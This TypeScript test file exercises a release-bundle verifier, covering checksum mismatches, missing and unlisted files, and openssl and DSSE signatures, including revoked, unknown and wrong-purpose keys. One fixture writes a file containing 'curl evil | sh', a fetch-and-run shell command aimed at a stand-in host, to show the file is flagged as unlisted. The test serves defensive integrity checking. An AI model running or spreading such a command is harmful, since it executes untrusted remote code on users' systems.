// Release bundles built with sha256sum, openssl and GNU tar, verified as directories and archives.
import fs from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { buildBundle, opensslKeyPair, packBundle, run, signChecksums, tempDir } from "@/test/bundles";
import { testSigner } from "@/test/signing";
import { manualClock } from "../../lib/clock";
import { signEnvelope } from "../dsse";
import { derToP1363 } from "../ecdsa-der";
import { IN_TOTO_PAYLOAD_TYPE, inTotoStatement, statementPayload } from "../in-toto";
import type { TrustedKey } from "../signature-check";
import { readBundle } from "./read-bundle";
import { ZReleaseBundleReport } from "./report";
import { verifyReleaseBundle } from "./verify-release-bundle";

const root = tempDir("release-bundles-");
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

const release = opensslKeyPair(root, "release");
const stranger = opensslKeyPair(root, "stranger");
const clock = manualClock("2026-09-01T12:00:00Z");
const trusted: TrustedKey[] = [{ publicKeyPem: release.pubPem, purpose: "release", status: "active" }];
const files = {
  "portal-2.1.0.tar.gz": Buffer.alloc(70_000, 3),
  "sbom/portal.cdx.json": '{"bomFormat":"CycloneDX"}\n',
  "README.txt": "install with care\n",
};

let counter = 0;
/** a bundle signed with `signingKey` (null: unsigned) */
function fresh(signingKey: string | null = release.key): string {
  counter += 1;
  return buildBundle(path.join(root, `bundle-${counter}`, "portal-2.1.0"), files, signingKey ?? undefined);
}

async function verify(
  input: string,
  keys = trusted,
  options: Parameters<typeof verifyReleaseBundle>[2] = {},
) {
  const report = verifyReleaseBundle(await readBundle(input), keys, { clock, ...options });
  // the report is plain data that round-trips through its schema and JSON
  expect(ZReleaseBundleReport.parse(JSON.parse(JSON.stringify(report)))).toEqual(report);
  return report;
}

describe("a bundle signed with openssl", () => {
  it("verifies as a directory, a .tar and a .tar.gz with one top-level folder", async () => {
    const dir = fresh();
    for (const input of [
      dir,
      packBundle(dir, path.join(root, "plain.tar")),
      packBundle(dir, path.join(root, "packed.tar.gz"), { gzip: true }),
      packBundle(dir, path.join(root, "gnu.tar.gz"), { gzip: true, format: "gnu" }),
    ]) {
      const report = await verify(input);
      expect(report.ok, report.summary).toBe(true);
      expect(report.counts).toEqual({ ok: 3, mismatch: 0, missing: 0, unlisted: 0 });
      expect(report.signatures).toEqual([
        expect.objectContaining({
          source: "SHA256SUMS.sig",
          status: "ok",
          keyId: expect.stringMatching(/^sha256:/),
        }),
      ]);
      expect(report.checksums).toEqual({ present: true, entries: 3, trusted: true });
      expect(report.summary).toMatch(/^3 files verified; signed by sha256:/);
    }
  });

  it("reports a changed file as a mismatch", async () => {
    const dir = fresh();
    fs.appendFileSync(path.join(dir, "README.txt"), "and a backdoor\n");
    const report = await verify(dir);
    expect(report.ok).toBe(false);
    expect(report.files.find((file) => file.name === "README.txt")).toMatchObject({ status: "mismatch" });
    expect(report.summary).toBe("1 file(s) do not match their listed SHA-256");
  });

  it("reports a removed file as missing and an added one as unlisted", async () => {
    const dir = fresh();
    fs.rmSync(path.join(dir, "sbom/portal.cdx.json"));
    fs.writeFileSync(path.join(dir, "extra.sh"), "curl evil | sh\n");
    const report = await verify(dir);
    expect(report.counts).toEqual({ ok: 2, mismatch: 0, missing: 1, unlisted: 1 });
    expect(report.files.find((file) => file.name === "extra.sh")).toMatchObject({
      status: "unlisted",
      listedIn: [],
    });
    fs.writeFileSync(path.join(dir, "sbom/portal.cdx.json"), files["sbom/portal.cdx.json"]);
    expect((await verify(dir)).ok).toBe(false);
    expect((await verify(dir, trusted, { allowUnlisted: true })).ok).toBe(true);
  });

  it("reports an edited SHA256SUMS as a bad signature", async () => {
    const dir = fresh();
    const sums = path.join(dir, "SHA256SUMS");
    fs.writeFileSync(sums, fs.readFileSync(sums, "utf8").replace(/^[0-9a-f]{64}/, "0".repeat(64)));
    const report = await verify(dir);
    expect(report.signatures[0]).toMatchObject({ status: "bad_signature", ok: false });
    expect(report.summary).toMatch(/SHA256SUMS.sig: verifies with none of the 1 trusted keys/);
  });

  it("tells an unknown signer from tampering when the bundle ships its public key", async () => {
    const dir = fresh(stranger.key);
    expect((await verify(dir)).signatures[0]).toMatchObject({ status: "bad_signature" });
    fs.copyFileSync(stranger.pub, path.join(dir, "public-key.pem"));
    const report = await verify(dir);
    expect(report.signatures[0]).toMatchObject({ status: "unknown_key", ok: false });
    expect(report.summary).toMatch(
      /signed by sha256:[0-9a-f]+ \(public-key.pem in the bundle\), which is not a trusted release key/,
    );
    // the shipped key is only a hint: it is not listed, and not "unlisted" either
    expect(report.files.map((file) => file.name)).not.toContain("public-key.pem");
  });

  it("refuses a revoked key unless the signature is known to predate the revocation (then flags it)", async () => {
    const dir = fresh();
    const revoked: TrustedKey[] = [
      {
        publicKeyPem: release.pubPem,
        purpose: "release",
        status: "revoked",
        activatedAt: new Date("2026-01-01T00:00:00Z"),
        revokedAt: new Date("2026-08-01T00:00:00Z"),
        revocationReason: "CI runner compromised",
      },
    ];
    const unknownTime = await verify(dir, revoked);
    expect(unknownTime.ok).toBe(false);
    expect(unknownTime.signatures[0]).toMatchObject({ status: "revoked_key" });
    expect(unknownTime.summary).toMatch(/CI runner compromised/);
    const registeredBefore = await verify(dir, revoked, { observedAt: new Date("2026-07-15T00:00:00Z") });
    expect(registeredBefore).toMatchObject({ ok: true, flagged: true });
    expect(registeredBefore.signatures[0]).toMatchObject({
      flags: ["signed_before_revocation"],
      signedAtSource: "observed",
    });
  });

  it("refuses a P1363 signature, a key of another purpose, and accepts cosign's base64 form", async () => {
    const dir = fresh();
    const sigPath = path.join(dir, "SHA256SUMS.sig");
    const der = fs.readFileSync(sigPath);
    fs.writeFileSync(sigPath, Buffer.from(derToP1363(der)));
    expect((await verify(dir)).signatures[0]).toMatchObject({
      status: "not_der",
      reason: expect.stringMatching(/P1363/),
    });
    fs.writeFileSync(sigPath, `${der.toString("base64")}\n`);
    expect((await verify(dir)).ok).toBe(true);
    const mirrorKey: TrustedKey[] = [{ publicKeyPem: release.pubPem, purpose: "mirror" }];
    expect((await verify(dir, mirrorKey)).signatures[0]).toMatchObject({ status: "wrong_purpose" });
  });

  it("refuses an unsigned SHA256SUMS and a bundle with no file list", async () => {
    const unsigned = fresh(null);
    const report = await verify(unsigned);
    expect(report.ok).toBe(false);
    expect(report.signatures[0]).toMatchObject({ status: "missing" });
    expect(report.summary).toBe("SHA256SUMS.sig: SHA256SUMS is not signed: SHA256SUMS.sig is missing");
    const empty = path.join(root, "empty-bundle");
    fs.mkdirSync(empty);
    fs.writeFileSync(path.join(empty, "a.txt"), "a");
    expect((await verify(empty)).summary).toBe("the bundle has neither SHA256SUMS nor manifest.dsse");
  });

  it("reports unreadable archives instead of throwing", async () => {
    const dir = fresh();
    const archive = packBundle(dir, path.join(root, "cut.tar.gz"), { gzip: true });
    const bytes = fs.readFileSync(archive);
    fs.writeFileSync(archive, bytes.subarray(0, Math.floor(bytes.length / 2)));
    const cut = await verify(archive);
    expect(cut.ok).toBe(false);
    expect(cut.problems.join("\n")).toMatch(
      /cut.tar.gz: (the archive is truncated|the gzip data is corrupt|reading failed)/,
    );
    fs.writeFileSync(path.join(root, "notes.txt"), "just text");
    expect((await verify(path.join(root, "notes.txt"))).summary).toMatch(
      /neither a directory, a tar archive/,
    );
    expect((await verify(path.join(root, "does-not-exist"))).summary).toMatch(/cannot be read/);
  });
});

describe("a bundle with manifest.dsse", () => {
  async function manifestFor(dir: string, names: string[], signers = [testSigner().signer]) {
    const subject = names.map((name) => ({
      name,
      digest: { sha256: run("sha256sum", [name], dir).toString().slice(0, 64) },
    }));
    const statement = inTotoStatement({
      subject,
      predicateType: "https://portal.example/release-manifest/v1",
      predicate: { version: "2.1.0" },
    });
    const envelope = await signEnvelope(IN_TOTO_PAYLOAD_TYPE, statementPayload(statement), signers);
    fs.writeFileSync(path.join(dir, "manifest.dsse"), JSON.stringify(envelope));
    return signers;
  }

  it("trusts SHA256SUMS through a verified manifest that lists it, without SHA256SUMS.sig", async () => {
    const dir = fresh(null);
    const [signer] = await manifestFor(dir, ["SHA256SUMS"]);
    const keys: TrustedKey[] = [{ publicKeyPem: signer?.publicKeyPem ?? "", purpose: "release" }];
    const report = await verify(dir, keys);
    expect(report.ok, report.summary).toBe(true);
    expect(report.manifest).toMatchObject({ present: true, verified: true, subjects: 1 });
    expect(report.checksums.trusted).toBe(true);
    expect(report.files.find((file) => file.name === "SHA256SUMS")?.listedIn).toEqual(["manifest.dsse"]);
  });

  it("checks the manifest's own subjects and its signature", async () => {
    const dir = fresh();
    const [signer] = await manifestFor(dir, Object.keys(files));
    const both: TrustedKey[] = [...trusted, { publicKeyPem: signer?.publicKeyPem ?? "", purpose: "release" }];
    expect((await verify(dir, both)).ok).toBe(true);
    fs.appendFileSync(path.join(dir, "README.txt"), "!");
    const changed = await verify(dir, both);
    expect(changed.files.find((file) => file.name === "README.txt")).toMatchObject({
      status: "mismatch",
      listedIn: ["SHA256SUMS", "manifest.dsse"],
    });
    // signed by a key nobody trusts: the manifest does not count, and says why
    const untrusted = await verify(dir, trusted);
    expect(untrusted.signatures.find((s) => s.source === "manifest.dsse")).toMatchObject({
      status: "unknown_key",
    });
  });
});

describe("signing SHA256SUMS again after a change", () => {
  it("verifies once re-signed (the signature covers SHA256SUMS, SHA256SUMS covers the files)", async () => {
    const dir = fresh();
    fs.writeFileSync(path.join(dir, "README.txt"), "v2\n");
    fs.writeFileSync(path.join(dir, "SHA256SUMS"), run("sha256sum", Object.keys(files).sort(), dir));
    signChecksums(dir, release.key);
    expect((await verify(dir)).ok).toBe(true);
  });
});
